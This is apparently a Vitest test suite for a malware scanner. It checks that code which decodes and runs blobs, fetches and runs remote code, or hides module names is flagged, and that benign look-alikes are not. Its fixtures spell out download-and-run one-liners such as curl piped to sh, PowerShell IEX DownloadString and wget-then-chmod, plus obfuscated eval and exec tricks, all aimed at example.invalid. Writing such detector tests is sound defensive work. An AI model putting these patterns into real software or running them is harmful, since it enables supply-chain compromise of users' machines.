import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { verdictsOf } from '../testing/shapesIn.ts';

const code = Array.from(
  { length: 30 },
  (_, i) => `console.log("harmless line ${(i * 7919) % 101} of a re-creation");`,
).join('\n');
const blob = gzipSync(code).toString('base64');
const hexBlob = gzipSync(code).toString('hex');

describe('what is decoded or fetched and then run is held', () => {
  it.each([
    ['eval of base64', 'a.js', `eval(Buffer.from('${blob}', 'base64').toString())`, 'hold runs-decoded'],
    [
      'eval under another name',
      'a.js',
      `const q = globalThis['ev' + 'al']; const d = atob('${blob}'); q(d)`,
      'hold runs-decoded',
    ],
    [
      'a constructor of functions',
      'a.js',
      `const f = (() => {}).constructor; f(atob('${blob}'))()`,
      'hold runs-decoded',
    ],
    [
      'a new Function of an inflated literal',
      'a.js',
      `const z = require('zlib'); new Function('m', z.gunzipSync(Buffer.from('${hexBlob}', 'hex')))(module)`,
      'hold runs-decoded',
    ],
    [
      'a virtual machine',
      'a.mjs',
      `import vm from 'node:vm'; function un(t) { return Buffer.from(t, 'base64').toString() } const t = un('${blob}'); vm.runInThisContext(t)`,
      'hold runs-decoded',
    ],
    [
      'exec of a compressed blob',
      'a.py',
      `import base64, zlib\nexec(zlib.decompress(base64.b64decode('${blob}')))`,
      'hold runs-decoded',
    ],
    [
      'exec by getattr',
      'a.py',
      `import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('${blob}'))`,
      'hold runs-decoded',
    ],
    [
      'what only the right package decrypts',
      'a.js',
      `const c = require('crypto'); const d = c.createDecipher('aes256', process.env.npm_package_description); const t = d.update('${hexBlob}', 'hex', 'utf8') + d.final('utf8'); module._compile(t, '')`,
      'hold environment-gate',
    ],
    [
      'eval of an answer',
      'a.js',
      `fetch('https://example.invalid/x').then((r) => r.text()).then((t) => 0); async function f() { eval(await (await fetch('https://example.invalid/x')).text()) }`,
      'hold download-and-run',
    ],
    [
      'exec of an answer',
      'a.py',
      `import urllib.request\nexec(urllib.request.urlopen('https://example.invalid/x').read())`,
      'hold download-and-run',
    ],
    [
      'a shell that fetches and runs at import',
      'a.js',
      `require('child_process').execSync('curl -s https://example.invalid/x | sh')`,
      'hold download-and-run',
    ],
    [
      'a shell put together',
      'a.py',
      `import os\nhost = 'example.invalid'\nos.system('wget -q https://' + host + '/x -O /tmp/x && chmod +x /tmp/x')`,
      'hold download-and-run',
    ],
    [
      'PowerShell',
      'a.js',
      `const { exec } = require('child_process'); exec("powershell -c IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')")`,
      'hold download-and-run',
    ],
    [
      'a command from an answer',
      'a.js',
      `const cp = require('child_process'); async function f() { const r = await fetch('https://example.invalid/c'); cp.exec(await r.text()) }`,
      'hold download-and-run',
    ],
    [
      'a file that is written from the network and run',
      'a.js',
      `const fs = require('fs'), https = require('https'), cp = require('child_process'); const p = dir + '/x'; https.get('https://example.invalid/x', (res) => { res.pipe(fs.createWriteStream(p)); cp.spawn(p) })`,
      'review download-and-run',
    ],
    [
      'a script that an interpreter is given',
      'a.js',
      "const fs = require('fs'), cp = require('child_process'); async function f(p) { fs.writeFileSync(p, await (await fetch('https://example.invalid/x')).text()); cp.spawn('node', [p]) }",
      'review download-and-run',
    ],
    [
      'a file that a function of its own fetches, and that is run',
      'a.py',
      "import urllib.request, subprocess, os\ndef fetch(url, part):\n  with urllib.request.urlopen(url) as response, open(part, 'wb') as out: out.write(response.read())\ndef go(target):\n  fetch('https://example.invalid/x', target)\n  subprocess.Popen([str(target), '--quiet'])",
      'review download-and-run',
    ],
    [
      'the same in Python',
      'a.py',
      `import urllib.request, subprocess\ndef go(path):\n  urllib.request.urlretrieve('https://example.invalid/x', path)\n  subprocess.Popen([path])`,
      'review download-and-run',
    ],
  ])('%s', (_, file, text, verdict) => {
    expect(verdictsOf({ [file]: text })).toContain(verdict);
  });
});

describe('a module whose name is decoded is held', () => {
  it.each([
    [
      'in hexadecimal',
      'a.js',
      `const q = require; const n = (s) => Buffer.from(s, 'hex').toString(); q(n('2e2f64617461'))`,
    ],
    ['in base64', 'a.mjs', `const m = await import(atob('Y2hpbGRfcHJvY2Vzcw=='))`],
    ['as numbers', 'a.js', `require(String.fromCharCode(102, 115))`],
    ['in Python', 'a.py', `import base64\nm = __import__(base64.b64decode('c3VicHJvY2Vzcw==').decode())`],
  ])('%s', (_, file, text) => {
    expect(verdictsOf({ [file]: text })).toContain('hold hidden-import');
  });

  it.each([
    [
      'a module made of text',
      'a.mjs',
      "const m = await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'))",
    ],
    [
      'a plugin by its name',
      'a.js',
      "const plugin = require(path.join(root, 'plugins', name)); require('./locale/' + language)",
    ],
    ['a list of names', 'a.js', "for (const name of ['react', 'vue']) require(name + '/package.json')"],
  ])('but not %s', (_, file, text) => {
    expect(verdictsOf({ [file]: text }).filter((one) => !one.startsWith('note'))).toEqual([]);
  });
});

describe('honest code that looks like it is no more than a note', () => {
  it.each([
    ['the global object by Function', 'a.js', "const root = Function('return this')(); const g = (0, eval)('this')"],
    ['a template compiler', 'a.js', "exports.compile = (source) => new Function('data', 'return `' + source + '`')"],
    [
      'a validator that writes its own code',
      'a.js',
      'function build(rules) { let body = ""; for (const r of rules) body += "if (!" + r + ") return false;"; return new Function("x", body) }',
    ],
    ['a timer with a function', 'a.js', 'setTimeout(() => go(), 10); setTimeout(later, 5, atob(x))'],
    [
      'a WebAssembly module in base64',
      'a.js',
      `const wasm = new WebAssembly.Module(Buffer.from('AGFzbQE${blob}', 'base64')); exports.run = (s) => eval(new WebAssembly.Instance(wasm).exports.at(s))`,
    ],
    ['an image in base64', 'a.js', `exports.logo = Buffer.from('${blob}', 'base64')`],
    ['JSON in base64', 'a.js', `exports.data = JSON.parse(Buffer.from('${blob}', 'base64').toString())`],
    [
      'git asked for its version',
      'a.js',
      "const { execSync } = require('child_process'); execSync('git --version'); execSync(`npm install ${name}`)",
    ],
    [
      'a request and a process that have nothing to do with each other',
      'a.js',
      "const cp = require('child_process'); fetch('https://example.invalid').then((r) => r.json()); exports.open = (file) => cp.spawn('xdg-open', [file])",
    ],
    [
      'a fixed command with an address from an answer',
      'a.js',
      "const cp = require('child_process'); async function f() { const r = await fetch('https://example.invalid/c'); cp.exec('git clone ' + (await r.json()).url) }",
    ],
    [
      'a fetched file given to a fixed tool',
      'a.js',
      "const fs = require('fs'), cp = require('child_process'); async function f(p) { fs.writeFileSync(p, await (await fetch('https://example.invalid/x')).text()); cp.spawn('tar', ['-xf', p]) }",
    ],
    [
      'a browser opened on an address that was put together',
      'a.py',
      "import subprocess, urllib.parse\ndef open_url(url):\n  subprocess.Popen(['xdg-open', urllib.parse.unquote(url)])",
    ],
    [
      'curl without a shell behind it',
      'a.js',
      "require('child_process').execSync('curl -sf https://example.invalid/health')",
    ],
    ['advice to pipe into a shell', 'a.js', "console.log('Install with: curl https://example.invalid/x | sh')"],
    [
      'a namedtuple of the standard library’s kind',
      'a.py',
      "def make(name, fields):\n  text = 'def f(%s): pass' % fields\n  exec(text, {})",
    ],
    [
      'a file that is fetched and kept',
      'a.py',
      "import urllib.request, subprocess\ndef get(url, path):\n  urllib.request.urlretrieve(url, path)\n\ndef version():\n  subprocess.run(['git', '--version'])",
    ],
  ])('%s', (_, file, text) => {
    expect(verdictsOf({ [file]: text }).filter((one) => !one.startsWith('note'))).toEqual([]);
  });

  it('and in its tests a package may do what it likes', () => {
    expect(verdictsOf({ 'test/a.test.js': `eval(atob('${blob}'))` })).toEqual(['note runs-decoded']);
  });
});
